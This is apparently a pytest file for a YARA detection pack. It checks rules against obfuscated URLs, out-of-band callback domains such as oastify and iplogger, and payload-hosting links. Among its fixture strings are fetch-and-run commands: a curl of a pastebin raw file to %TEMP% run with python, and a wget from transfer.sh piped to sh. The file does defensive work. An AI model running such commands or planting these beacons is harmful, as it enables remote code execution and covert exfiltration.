"""rules/yara/signals/signals.yar: encoded or assembled endpoints, out-of-band destinations."""

from __future__ import annotations

import base64

import pytest
from yara_pack import compile_pack


@pytest.fixture(scope="module")
def pack():
    return compile_pack()


def rules_hit(pack, text: str) -> set[str]:
    return {m.rule for m in pack.match(data=text.encode())}


ENDPOINT_HITS = [
    "u = 'aHR0cHM6Ly9iZWFjb24uZXhhbXBsZS5pbnZhbGlk'\n",
    "u = b64decode('{}')\n".format(base64.b64encode(b"xxhttps://beacon.example.invalid/p").decode()),
    "u = bytes.fromhex('68747470733a2f2f6578616d706c652e696e76616c6964')\n",
    "u = 'ht' + 'tps://' + host\n",
    "u = ''.join(chr(c) for c in [104, 116, 116, 112, 115, 58])\n",
    "u = '//:sptth'[::-1]\n",
]
ENDPOINT_MISSES = [
    "u = 'https://example.invalid/docs'\n",
    "data = base64.b64encode(b'hello world')\n",
]
OOB_HITS = [
    "requests.get('https://oastify.com/?x=1')\n",
    "u = 'abc123.oast.cz'\n",
    "requests.post('https://0f0f.dnshook.site', json=d)\n",
    "u = 'http://canarytokens.com/images/x'\n",
    "urllib.request.urlopen('https://iplogger.com/2Abc')\n",  # IP loggers: the visit is the beacon
    "requests.get('https://grabify.link/XYZ')\n",
]
OOB_MISSES = ["u = 'https://toast.fun.example.invalid'\n", "u = 'https://pipedream.com/docs'\n",
              "u = 'https://myiplogger.example.invalid/'\n"]
PAYLOAD_HOST_HITS = [
    "curl -sL https://pastebin.com/raw/AbCd1234 -o %TEMP%\\h.py && python %TEMP%\\h.py\n",  # a decoded command
    "wget https://transfer.sh/abc/run.sh -O- | sh\n",
    "u = 'https://cdn.discordapp.com/attachments/1/2/update.exe'\n",
]
PAYLOAD_HOST_MISSES = [
    "see https://pastebin.com/AbCd1234 for the log\n",  # a paste page, not its raw payload
    "u = 'https://cdn.discordapp.com/attachments/1/2/avatar.png'\n",
]
# What tests/yara/test_pack.py checks every rule has.
# decoded_endpoint: the peel writes an endpoint it decoded as a layer of its own
# (peel/__init__.py); the rule reads such a layer, never a URL inside other text (and
# derived.py drops its hits on a package's real files)
DECODED_HITS = ["https://api.example.invalid/collect", "wss://c2.example.invalid:8443/ws"]
DECODED_MISSES = ["u = 'https://api.example.invalid/collect'\n", "https://example.invalid/" + "x" * 5000]
POSITIVE = {"encoded_endpoint": ENDPOINT_HITS, "oob_destination_domain": OOB_HITS,
            "payload_host_url": PAYLOAD_HOST_HITS, "decoded_endpoint": DECODED_HITS}
BENIGN = {"encoded_endpoint": ENDPOINT_MISSES, "oob_destination_domain": OOB_MISSES,
          "payload_host_url": PAYLOAD_HOST_MISSES, "decoded_endpoint": DECODED_MISSES}


@pytest.mark.parametrize("rule,text", [(rule, text) for rule, texts in POSITIVE.items() for text in texts])
def test_signal_hits(pack, rule, text):
    # encoded/split URLs; out-of-band hosts apex or subdomain; raw pastes and shared executables
    assert rule in rules_hit(pack, text)


@pytest.mark.parametrize("rule,text", [(rule, text) for rule, texts in BENIGN.items() for text in texts])
def test_signal_misses(pack, rule, text):
    # plain URLs; look-alike hosts; paste pages and images
    assert rule not in rules_hit(pack, text)

